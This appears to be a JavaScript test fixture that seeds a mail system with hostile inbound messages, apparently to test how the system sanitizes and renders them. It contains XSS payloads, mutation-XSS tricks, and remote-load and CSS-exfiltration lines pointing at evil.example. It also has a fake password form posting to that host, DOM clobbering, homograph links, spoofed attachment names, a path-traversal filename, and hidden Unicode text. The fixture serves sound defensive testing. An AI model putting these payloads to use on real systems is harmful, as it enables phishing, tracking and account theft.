// Mail that wants to run, fetch, hide or mislead. Everything that would call home names evil.example;
// everything that would run sets a global or opens a dialog.
import { add_hold } from "./world.mjs";

const kReason = {
  type: "gate",
  code: "sender_gate",
  summary: "the sender could not be authenticated (DMARC did not pass)",
};

export const kHostileHtml = {
  script: `<script>top.pwned=1;alert(1)</script><p>script</p><script src="https://evil.example/x.js"></script>`,
  handlers: `<img src=x onerror="top.pwned=1"><body onload="top.pwned=1"><div onmouseover="top.pwned=1" style="width:100%;height:100%">handlers</div><details open ontoggle="top.pwned=1">x</details>`,
  svg: `<svg onload="top.pwned=1"><script>top.pwned=1</script><animate onbegin="top.pwned=1" attributeName=x dur=1s></svg><math><mtext><table><mglyph><style><img src=x onerror="top.pwned=1"></style></mglyph></table></mtext></math>svg`,
  mutation: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="top.pwned=1">mutation<noscript><p title="</noscript><img src=x onerror=top.pwned=1>">`,
  urls: `<a href="javascript:top.pwned=1">js</a><a href="  jAvAsCrIpT:top.pwned=1">js2</a><a href="data:text/html,<script>top.pwned=1</script>">data</a><iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.top.pwned=1</script>"></iframe>`,
  remote: `<img src="https://evil.example/pixel.gif"><img srcset="https://evil.example/2x.gif 2x"><picture><source srcset="https://evil.example/p.webp"><img src="//evil.example/q.gif"></picture><table background="https://evil.example/bg.png"><tr><td background="https://evil.example/td.png">remote</td></tr></table><video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg" autoplay></video><audio src="https://evil.example/a.mp3"></audio><link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="https://evil.example/p"><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><input type="image" src="https://evil.example/i.png">`,
  css: `<style>@import url("https://evil.example/i.css");@font-face{font-family:x;src:url(https://evil.example/f.woff)}body{background:url(https://evil.example/b.png)}input[value^="a"]{background:url(https://evil.example/a)}p{color:red;content:url(https://evil.example/c);cursor:url(https://evil.example/cur),auto;list-style-image:url(https://evil.example/l)}@media screen{p{background-image:image-set("https://evil.example/m.png" 1x)}}</style><p style="background:url(https://evil.example/inline.png);position:fixed;inset:0;color:green">css</p><p style="background:u\\72l(https://evil.example/escaped.png)">escaped</p><p style="--x:url(https://evil.example/var.png);background:var(--x)">variable</p></style><script>top.pwned=1</script>`,
  forms: `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><form action="https://evil.example/post" method="post"><input name="password" type="password"><button>Sign in again</button></form><a href="/relative" ping="https://evil.example/ping">forms</a>`,
  clobber: `<form id="document" name="cookie"><input id="body" name="childNodes"></form><img name="getElementById"><a id="location" href="https://evil.example/">clobber</a><div id="app"></div>`,
  links: `<a href="https://evil.example/login">https://bank.example/login</a> <a href="https://bank.example@evil.example/">bank</a> <a href="https://\u0440\u0430ypal.com/">paypal.com</a> <a href="https://xn--80ak6aa92e.com/">apple.com</a>`,
  table: `<table>${"<tr>" + "<td>cell</td>".repeat(20) + "</tr>"}${("<tr>" + "<td>cell</td>".repeat(20) + "</tr>").repeat(1500)}</table>`,
  nesting: `${"<div>".repeat(3000)}deep${"</div>".repeat(3000)}`,
  closing: `</body></html></iframe><script>top.pwned=1</script>"><script>top.pwned=1</script>`,
};

export function hostile(world) {
  const agent = "scout@agents.example.org";
  for (const [name, html] of Object.entries(kHostileHtml)) {
    add_hold(world, {
      name: `hostile-${name}`,
      agent,
      direction: "inbound",
      from: "mallory@evil.example",
      to: [],
      subject: `Hostile ${name}`,
      text: `plain ${name}`,
      html,
      reason: kReason,
      expires: 3600 * 50,
    });
  }
  const script = Buffer.from("<script>top.pwned=1</script>");
  add_hold(world, {
    name: "hostile-names",
    agent,
    direction: "inbound",
    from: "mallory@evil.example",
    to: [],
    subject: "Invoice \u202Efdp.exe <script>top.pwned=1</script>",
    reason: kReason,
    expires: 3600 * 51,
    text: "See \u202Ethe attachment\u202C. \u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}",
    files: [
      { filename: "invoice\u202Efdp.exe", content_type: "application/pdf", bytes: script },
      { filename: "statement.pdf.exe", content_type: "application/octet-stream", bytes: script },
      {
        filename: "holiday.jpg                                                .scr",
        content_type: "image/jpeg",
        bytes: script,
      },
      { filename: "page.html", content_type: "text/html", bytes: script },
      {
        filename: "drawing.svg",
        content_type: "image/svg+xml",
        bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>top.pwned=1</script></svg>`),
      },
      { filename: "../../etc/passwd", content_type: "text/plain", bytes: Buffer.from("root") },
    ],
  });
  add_hold(world, {
    name: "hostile-homograph",
    agent,
    direction: "inbound",
    from: "service@\u0440\u0430ypal.com",
    to: [],
    subject: "Homograph",
    text: "From a host in mixed letters.",
    reason: kReason,
    expires: 3600 * 52,
  });
}
